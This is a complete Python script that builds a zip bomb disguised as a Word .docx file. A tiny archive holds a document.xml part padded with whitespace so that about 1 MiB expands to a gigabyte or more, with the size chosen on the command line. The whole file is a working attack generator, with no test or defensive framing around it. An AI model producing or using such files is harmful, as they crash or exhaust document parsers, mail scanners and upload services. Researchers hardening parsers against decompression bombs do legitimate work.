"""Writes a .docx-named zip bomb: [Content_Types].xml and word/document.xml that unpacks to
SIZE MiB of repeated XML (1024 MiB by default, about 1 MiB compressed)."""
import sys
import zipfile

path = sys.argv[1]
mebibytes = int(sys.argv[2]) if len(sys.argv) > 2 else 1024
chunk = b" " * 1_048_576  # white space between elements: deflate's best ratio, about 1000:1
with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
    with archive.open("word/document.xml", "w", force_zip64=True) as part:
        part.write(b'<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>')
        for _ in range(mebibytes):
            part.write(chunk)
        part.write(b"</w:t></w:r></w:p></w:body></w:document>")
